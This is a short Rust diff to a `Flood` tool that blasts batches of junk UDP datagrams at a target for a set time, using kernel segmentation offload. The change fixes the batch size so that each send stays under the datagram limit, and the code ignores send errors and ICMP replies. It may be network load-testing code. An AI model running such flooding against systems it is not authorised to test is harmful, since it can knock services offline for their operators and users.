@@ -26,8 +26,10 @@ pub struct Flood;
 
 /// Bytes of each datagram that is made up.
 const SIZE: usize = 1200;
-/// Datagrams of a batch; the kernel takes at most 64.
+/// Datagrams of a batch at most; the kernel takes 64.
 const BATCH: usize = 48;
+/// Bytes of a batch at most.
+const BATCH_BYTES: usize = 65_507;
 
 impl Flood {
     /// Sends junk from `host` to `target` for `lasting` and gives the number of datagrams.
@@ -50,7 +52,8 @@ impl Flood {
         set_udp_segment(&socket, size as u16).expect("UDP_SEGMENT");
         socket.connect(target).expect("connected");
         let mut state = 0x9e37_79b9_7f4a_7c15_u64;
-        let mut batch = vec![0; BATCH * size];
+        let count = BATCH.min(BATCH_BYTES / size);
+        let mut batch = vec![0; count * size];
         let began = Instant::now();
         let mut sent = 0;
         while began.elapsed() < lasting {
@@ -58,7 +61,7 @@ impl Flood {
             for _ in 0..16 {
                 // A full queue or an ICMP answer is nothing to a flood.
                 if socket.send(&batch).is_ok() {
-                    sent += BATCH as u64;
+                    sent += count as u64;
                 }
             }
         }
